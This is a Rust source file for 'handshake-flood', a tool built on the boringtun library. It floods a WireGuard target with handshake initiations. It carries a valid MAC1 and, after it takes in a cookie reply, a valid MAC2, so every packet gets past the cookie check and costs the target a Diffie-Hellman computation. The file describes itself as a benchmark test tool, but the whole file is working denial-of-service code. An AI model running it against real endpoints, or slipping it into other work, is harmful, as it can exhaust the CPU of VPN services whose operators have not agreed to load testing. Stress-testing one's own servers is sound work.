//! `handshake-flood TARGET_IP:PORT TARGET_PUBLIC_KEY [SECONDS]`
//!
//! Sends one handshake initiation over and over, as fast as one core can, from a static
//! key the target does not know. Its MAC1 is valid (it is computed from the target's
//! public key), and when the target answers with a cookie reply the tool takes the
//! cookie in and switches to an initiation whose MAC2 is valid too, so every packet gets
//! past the target's cookie check and costs it whatever it does next (a Diffie-Hellman
//! without a per-source limit). Prints the packets sent and the rate.
//!
//! A test tool for `benches/handshake-flood.sh`, not a library: it only ever talks to
//! the address it is given.

use std::net::{SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

use base64::Engine as _;
use boringtun::noise::{Tunn, TunnResult};
use boringtun::x25519;

fn main() {
    let args: Vec<String> = std::env::args().collect();
    if args.len() < 3 {
        eprintln!("usage: handshake-flood TARGET_IP:PORT TARGET_PUBLIC_KEY_BASE64 [SECONDS]");
        std::process::exit(2);
    }
    let target: SocketAddr = args[1]
        .parse()
        .unwrap_or_else(|e| fail(&format!("target: {e}")));
    let key = base64::engine::general_purpose::STANDARD
        .decode(args[2].trim())
        .ok()
        .and_then(|k| <[u8; 32]>::try_from(k).ok())
        .unwrap_or_else(|| fail("the public key is not 32 bytes of base64"));
    let seconds: u64 = args.get(3).map_or(Ok(10), |s| s.parse()).unwrap_or(10);

    let mut attacker = Tunn::new(
        x25519::StaticSecret::random_from_rng(rand::thread_rng()),
        x25519::PublicKey::from(key),
        None,
        None,
        rand::random(),
        None,
    );
    let sock = UdpSocket::bind(if target.is_ipv4() {
        "0.0.0.0:0"
    } else {
        "[::]:0"
    })
    .unwrap_or_else(|e| fail(&format!("bind: {e}")));
    sock.connect(target)
        .unwrap_or_else(|e| fail(&format!("connect: {e}")));
    sock.set_nonblocking(true)
        .unwrap_or_else(|e| fail(&e.to_string()));

    let mut init = initiation(&mut attacker);
    let (start, mut sent, mut cookies) = (Instant::now(), 0u64, 0u64);
    let mut reply = [0u8; 256];
    while start.elapsed() < Duration::from_secs(seconds) {
        for _ in 0..1024 {
            // A full socket buffer just means the next send waits its turn.
            if sock.send(&init).is_ok() {
                sent += 1;
            }
        }
        // A cookie reply carries the cookie for a valid MAC2 (valid for two minutes).
        while let Ok(n) = sock.recv(&mut reply) {
            let mut out = [0u8; 256];
            if n == 64
                && matches!(
                    attacker.decapsulate(Some(target.ip()), &reply[..n], &mut out),
                    TunnResult::Done
                )
            {
                cookies += 1;
                init = initiation(&mut attacker);
            }
        }
    }
    let secs = start.elapsed().as_secs_f64();
    println!(
        "sent {sent} initiations in {secs:.1} s ({:.0}/s), {cookies} cookie replies taken",
        sent as f64 / secs
    );
}

/// A new initiation (with a MAC2 once a cookie was taken in).
fn initiation(t: &mut Tunn) -> Vec<u8> {
    let mut buf = [0u8; 256];
    match t.format_handshake_initiation(&mut buf, true) {
        TunnResult::WriteToNetwork(p) => p.to_vec(),
        _ => fail("could not build an initiation"),
    }
}

fn fail(msg: &str) -> ! {
    eprintln!("handshake-flood: {msg}");
    std::process::exit(1)
}
